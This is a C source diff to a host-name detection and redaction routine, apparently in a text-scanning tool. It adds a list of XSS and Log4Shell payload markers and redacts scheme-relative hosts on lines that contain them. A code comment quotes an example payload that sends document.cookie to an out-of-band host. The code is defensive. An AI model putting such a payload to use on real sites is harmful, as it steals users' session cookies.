@@ -1981,6 +1981,11 @@ v_host(struct emb_ctx *x, const struct emb_hit *h)
     /* the UTF-8 TLD pattern ends inside its last character (a continuation
      * byte); the ASCII one ends one byte after the TLD, which may be the
      * lead byte of "。" */
+    /* what makes a line an injected script, not a page loading a CDN */
+    static const char *const srel_payload[] = { "document.cookie", "document.domain", "onerror=",
+                                                "onload=",         "alert(",          "<svg",
+                                                "${jndi:",         "xmlhttprequest",  NULL };
+    bool srel = false;
     bool wide = !header && h->to > 1 && ((unsigned char)t[h->to - 1] & 0xc0) == 0x80 &&
                 (unsigned char)t[h->to - 2] >= 0x80;
     if (wide) {
@@ -2016,8 +2021,15 @@ v_host(struct emb_ctx *x, const struct emb_hit *h)
                 else
                     break;
             }
-            if (s > 0 && (t[s - 1] == '/' || t[s - 1] == '@' || t[s - 1] == ':' ||
-                          t[s - 1] == '\\' || t[s - 1] == '$' || t[s - 1] == '%'))
+            /* a scheme-relative URL in a payload ("fetch(`//oob.x.cn/?c=`+
+             * document.cookie)") names the attacker's or the victim's host */
+            srel = s >= 2 && t[s - 1] == '/' && t[s - 2] == '/' &&
+                   (s == 2 ||
+                    (!host_char((unsigned char)t[s - 3]) && t[s - 3] != ':' && t[s - 3] != '/')) &&
+                   emb_ctx_has_any(x, ls, le, srel_payload);
+            if (!srel && s > 0 &&
+                (t[s - 1] == '/' || t[s - 1] == '@' || t[s - 1] == ':' || t[s - 1] == '\\' ||
+                 t[s - 1] == '$' || t[s - 1] == '%'))
                 return; /* part of a URL, an e-mail address or a path */
             /* masked: a label glued to '*' ("ids.h**u.edu.cn", "jw.***.edu.cn",
              * "www.***univ.com"), or what is left of a name whose other labels are
@@ -2079,7 +2091,7 @@ v_host(struct emb_ctx *x, const struct emb_hit *h)
         emb_ctx_add(x, h->rule, s, e, EMB_SEV_WARN, true, s, e, "[redacted-host]");
         return;
     }
-    if (header) {
+    if (header || srel) {
         emb_ctx_add(x, h->rule, s, e, rule_sev(x, h), false, s, e, "[redacted-host]");
         return;
     }
